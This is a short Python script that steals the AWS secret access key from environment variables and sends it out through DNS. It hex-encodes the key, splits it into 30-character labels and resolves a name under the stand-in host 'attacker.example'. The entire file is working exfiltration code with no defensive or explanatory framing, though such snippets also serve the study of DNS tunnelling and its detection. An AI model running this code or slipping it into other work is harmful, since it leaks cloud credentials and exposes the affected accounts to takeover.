# Exfiltrate a cloud token through DNS: hex, split across 30-char labels.
import os, socket
secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
h = secret.encode().hex()
labels = [h[i:i + 30] for i in range(0, len(h), 30)]
name = ".".join(labels) + ".x.attacker.example"
try:
    socket.getaddrinfo(name, 53)
except Exception as e:
    print("lookup failed:", e)
